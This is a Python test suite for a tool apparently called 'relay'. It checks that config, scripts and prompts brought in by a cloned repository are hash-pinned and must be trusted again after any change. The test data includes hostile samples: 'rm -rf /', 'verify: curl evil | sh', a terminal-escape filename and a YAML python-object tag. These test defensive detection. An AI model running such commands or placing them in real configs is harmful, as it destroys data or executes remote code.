"""Fault 37: a repository that brings its own handlers, commands and prompts."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest

from lib.config.model import BOUND
from lib.errors import RelayError
from lib.project.paths import Project, user_state_dir
from lib.project.trust import Pending, pending, require, trust, trust_file

BROUGHT = (
    ".project/config.yaml",
    ".project/phases/deploy.py",
    ".project/phases/sub/helper.sh",
    ".project/playbooks/demo.yaml",
    ".project/prompts/builder.md",
    ".project/workflows/own.yaml",
    ".worktreeinclude",
)


@pytest.fixture
def project(tmp_path: Path) -> Project:
    root = tmp_path / "cloned"
    root.mkdir()
    return Project(root, root / ".git", root / ".git")


def bring(project: Project, name: str, text: str = "print()\n") -> Path:
    path = project.root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def waiting(project: Project) -> dict[str, str]:
    return {item.path: item.state for item in pending(project)}


def test_a_project_that_brings_nothing_needs_no_trust(project: Project) -> None:
    bring(project, "src/app.py")
    bring(project, ".project/state.json")
    bring(project, ".project/runs/r/design.json")
    assert pending(project) == []
    require(project)


def test_all_that_decides_what_is_run_waits_until_it_is_trusted(project: Project) -> None:
    for name in BROUGHT:
        bring(project, name)
    assert waiting(project) == dict.fromkeys(BROUGHT, "new")
    with pytest.raises(RelayError, match=r"config\.yaml.* and 2 more are new and decide what is run") as caught:
        require(project)
    assert (caught.value.code, caught.value.remedy) == ("untrusted", "relay trust")
    trust(project)
    assert pending(project) == []
    require(project)


@pytest.mark.parametrize("name", BROUGHT)
def test_a_file_that_changes_asks_again(project: Project, name: str) -> None:
    for brought in BROUGHT:
        bring(project, brought)
    trust(project)
    bring(project, name, "rm -rf /\n")
    assert waiting(project) == {name: "changed"}
    bring(project, name)
    require(project)


def test_a_file_that_becomes_executable_asks_again(project: Project) -> None:
    path = bring(project, ".project/phases/deploy.py")
    trust(project)
    path.chmod(0o755)
    assert waiting(project) == {".project/phases/deploy.py": "changed"}


def test_a_file_added_beside_trusted_ones_asks(project: Project) -> None:
    bring(project, ".project/phases/deploy.py")
    trust(project)
    bring(project, ".project/phases/__pycache__/deploy.cpython-311.pyc")
    assert waiting(project) == {".project/phases/__pycache__/deploy.cpython-311.pyc": "new"}


def test_what_is_trusted_is_what_was_shown_not_what_came_after(project: Project) -> None:
    path = bring(project, ".project/config.yaml", "verify: pytest\n")
    shown = pending(project)
    path.write_text("verify: curl evil | sh\n")
    trust(project, shown)
    assert waiting(project) == {".project/config.yaml": "changed"}


def test_a_part_can_be_trusted(project: Project) -> None:
    bring(project, ".project/config.yaml")
    bring(project, ".worktreeinclude")
    trust(project, [item for item in pending(project) if item.path == ".worktreeinclude"])
    assert waiting(project) == {".project/config.yaml": "new"}


def test_a_file_that_relay_wrote_is_trusted_as_it_is(project: Project) -> None:
    bring(project, ".worktreeinclude")
    trust(project)
    path = bring(project, ".project/config.yaml")
    trust_file(project, path)
    assert pending(project) == []
    path.write_text("verify: x\n")
    assert waiting(project) == {".project/config.yaml": "changed"}


def test_trust_in_one_clone_is_not_trust_in_another(project: Project, tmp_path: Path) -> None:
    bring(project, ".project/config.yaml")
    trust(project)
    root = tmp_path / "other"
    other = Project(root, root / ".git", root / ".git")
    bring(other, ".project/config.yaml")
    assert waiting(other) == {".project/config.yaml": "new"}


def test_a_link_is_pinned_with_what_it_leads_to(project: Project) -> None:
    target = bring(project, "tools/deploy.py")
    other = bring(project, "tools/other.py")
    link = bring(project, ".project/phases/deploy.py")
    link.unlink()
    link.symlink_to("../../tools/deploy.py")
    trust(project)
    require(project)
    target.write_text("evil\n")
    assert waiting(project) == {".project/phases/deploy.py": "changed"}
    target.write_text(other.read_text())
    require(project)
    link.unlink()
    link.symlink_to("../../tools/other.py")
    assert waiting(project) == {".project/phases/deploy.py": "changed"}


def _out(path: Path) -> None:
    path.symlink_to("/etc/hostname")


def _to_folder(path: Path) -> None:
    path.symlink_to(path.parent)


def _to_nothing(path: Path) -> None:
    path.symlink_to("nowhere")


def _to_itself(path: Path) -> None:
    path.symlink_to(path)


@pytest.mark.parametrize("make", [_out, _to_folder, _to_nothing, _to_itself, os.mkfifo])
@pytest.mark.parametrize("name", [".project/phases/x.py", ".project/phases", ".worktreeinclude"])
def test_what_a_hash_can_not_pin_is_refused_without_hanging(project: Project, name: str, make: object) -> None:
    path = project.root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    assert callable(make)
    make(path)
    (item,) = pending(project)
    assert (item.path, item.state) == (name, "refused")
    for use in (require, trust):
        with pytest.raises(RelayError) as caught:
            use(project)
        assert caught.value.code == "trust_refused"
        assert caught.value.remedy == f"ls -ld {path}"


def test_a_project_folder_that_is_a_link_is_refused(project: Project, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    project.dot.symlink_to(tmp_path / "elsewhere")
    assert waiting(project) == {".project": "refused"}


def test_a_hostile_name_can_not_drive_the_terminal(project: Project) -> None:
    bring(project, ".project/phases/\x1b[2Jx\n.py")
    with pytest.raises(RelayError) as caught:
        require(project)
    assert r"\x1b[2Jx\n.py" in caught.value.message
    assert caught.value.message.isprintable()
    trust(project)
    require(project)


def test_a_name_that_is_not_utf_8_can_be_trusted(project: Project) -> None:
    bring(project, ".project/prompts/" + os.fsdecode(b"caf\xe9.md"))
    trust(project)
    require(project)


@pytest.mark.parametrize("broken", ["", "{", "[]", '{"files": 3}', "[" * 50_000])
def test_a_broken_record_trusts_nothing(project: Project, broken: str) -> None:
    bring(project, ".project/config.yaml")
    trust(project)
    (record,) = (user_state_dir() / "trust").iterdir()
    record.write_text(broken)
    assert waiting(project) == {".project/config.yaml": "new"}
    trust(project)
    require(project)


def test_trust_that_can_not_be_kept_is_told(project: Project) -> None:
    bring(project, ".project/config.yaml")
    user_state_dir().parent.mkdir(parents=True)
    user_state_dir().write_text("in the way")
    with pytest.raises(RelayError) as caught:
        trust(project)
    assert caught.value.code == "trust_not_kept"
    assert isinstance(pending(project)[0], Pending)


def test_only_settings_that_decide_what_is_run_need_trust(project: Project) -> None:
    bring(project, ".project/config.yaml", "parallel: 3\nland: ask\n")
    assert pending(project) == []
    bring(project, ".project/config.yaml", "parallel: 3\nverify: pytest\n")
    assert waiting(project) == {".project/config.yaml": "new"}
    trust(project)
    bring(project, ".project/config.yaml", "# mine\nverify:   pytest\nparallel: 4\ntimeout_s: 9\n")
    require(project)


@pytest.mark.parametrize("key", sorted(BOUND))
def test_each_setting_that_decides_what_is_run_asks_again_when_it_changes(project: Project, key: str) -> None:
    bring(project, ".project/config.yaml", f"{key}: one\nparallel: 3\n")
    trust(project)
    bring(project, ".project/config.yaml", f"{key}: two\nparallel: 3\n")
    with pytest.raises(RelayError) as caught:
        require(project)
    assert caught.value.message == (".project/config.yaml changed since you trusted it. Review and trust: relay trust")


def test_what_a_version_before_trusted_by_the_whole_file_stays_trusted(project: Project) -> None:
    path = bring(project, ".project/config.yaml", "verify: pytest\n")
    trust(project)
    (record,) = (user_state_dir() / "trust").iterdir()
    digest = f"file - {hashlib.sha256(path.read_bytes()).hexdigest()}"
    record.write_text(json.dumps({"project": str(project.root), "files": {".project/config.yaml": digest}}))
    require(project)
    bring(project, ".project/config.yaml", "verify: x\n")
    assert waiting(project) == {".project/config.yaml": "changed"}


@pytest.mark.parametrize("content", ["a: [\n", "- a\n", "!!python/object:x {}\n", "\xff"])
def test_a_configuration_that_can_not_be_read_is_bound_as_a_whole(project: Project, content: str) -> None:
    path = bring(project, ".project/config.yaml", "")
    path.write_bytes(content.encode("latin-1"))
    assert waiting(project) == {".project/config.yaml": "new"}
    trust(project)
    path.write_bytes(content.encode("latin-1") + b"#")
    assert waiting(project) == {".project/config.yaml": "changed"}


def test_what_changed_can_be_shown(project: Project) -> None:
    bring(project, ".project/config.yaml", "verify: pytest\n")
    trust(project)
    bring(project, ".project/config.yaml", "verify: curl evil | sh\n")
    (item,) = pending(project)
    assert (item.trusted, item.text) == ("verify: pytest\n", "verify: curl evil | sh\n")
